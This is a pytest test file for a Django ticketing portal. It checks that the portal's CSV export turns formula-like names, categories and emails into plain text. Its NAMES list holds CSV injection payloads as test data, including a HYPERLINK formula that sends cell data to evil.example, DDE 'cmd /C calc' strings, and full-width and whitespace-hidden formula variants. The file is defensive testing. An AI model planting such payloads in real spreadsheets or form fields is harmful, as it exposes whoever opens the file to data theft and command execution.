"""A spreadsheet opens what the portal exports without running anything, and reads back what people wrote (TRUST row 22)."""

import codecs
import csv
import io

import pytest

from members.models import Member
from tests import factories
from tickets.models import Event, Product

pytestmark = pytest.mark.django_db
STARTS_A_FORMULA = tuple("=+-@\t\r\n＝＋－＠")
NAMES = [
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A1;\"Cliquez\")",
    "+33 6 12 34 56 78",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "  \t@SUM(A1)",
    "{=1+1}",
    "＝1＋1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "|calc",
    "%0A=1+1",
    'Zoé";=1+1;"',
    "Zoé;=1+1",
    "Zoé,=1+1",
    "Zoé\t=1+1",
    "Zoé\n=1+1",
    "Zoé\r\n@SUM(A1)",
    "Zoé, dite « l’Élégante »; née Ång",
    "D'Alembert",
    "'=1+1",
    "Œuvrard-Nguyễn 小林",
]  # fmt: skip


@pytest.fixture
def exported(as_relay, relay):
    """What a relay downloads when people, the product and the event have such names."""

    def export(name: str) -> str:
        product = factories.stock(relay.company, 2)
        member = factories.MemberFactory(company=relay.company, email="zoe@exemple.fr")
        factories.given(member, product, by=relay.user)
        Member.objects.update(first_name=name, last_name=f"{name}é")
        Product.objects.update(category=name[:40])
        Event.objects.update(name=name)
        answer = as_relay.get(f"/c/{relay.company.public_id}/products/{product.public_id}/figures.csv")
        assert (answer.status_code, answer["Content-Type"]) == (200, "text/csv; charset=utf-8")
        assert answer.content.startswith(codecs.BOM_UTF8)  # else Excel shows é as Ã©
        return answer.content.decode("utf-8-sig")

    return export


def rows_of(text: str, delimiter: str = ";") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def written(cell: str) -> str:
    """What the person wrote, without the apostrophes that the export adds."""
    return cell.replace("'", "")


@pytest.mark.parametrize("name", NAMES)
def test_what_people_wrote_comes_back_in_its_cell(exported, name):
    rows = rows_of(exported(name))

    assert written(rows[0][1]) == written(name)
    assert written(rows[2][1]) == written(name[:40])
    assert [len(row) for row in rows] == [2] * 9 + [0] + [6] * 3
    first, last, email = rows[11][3:]
    assert (written(first), written(last), email) == (written(name), written(f"{name}é"), "zoe@exemple.fr")
    assert rows[12][3:] == ["", "", ""]


@pytest.mark.parametrize("delimiter", [";", ","], ids=["a French spreadsheet", "an English one, which parts cells at commas"])
@pytest.mark.parametrize("name", NAMES)
def test_no_cell_is_a_formula_for(exported, name, delimiter):
    cells = [cell for row in rows_of(exported(name), delimiter) for cell in row]

    assert not [cell for cell in cells if cell.lstrip(" \u00a0").startswith(STARTS_A_FORMULA)]


def test_a_name_that_is_no_formula_is_left_as_it_is(exported):
    rows = rows_of(exported("Zoé, dite « l’Élégante »; née D'Ång - 小林"))

    assert rows[0] == ["Séance", "Zoé, dite « l’Élégante »; née D'Ång - 小林"]


def test_an_address_that_starts_like_a_formula_is_a_text(as_relay, relay):
    product = factories.stock(relay.company, 1)
    member = factories.MemberFactory(company=relay.company, email="+zoe@exemple.fr")
    factories.given(member, product, by=relay.user)

    answer = as_relay.get(f"/c/{relay.company.public_id}/products/{product.public_id}/figures.csv")

    assert rows_of(answer.content.decode("utf-8-sig"))[-1][-1] == "'+zoe@exemple.fr"
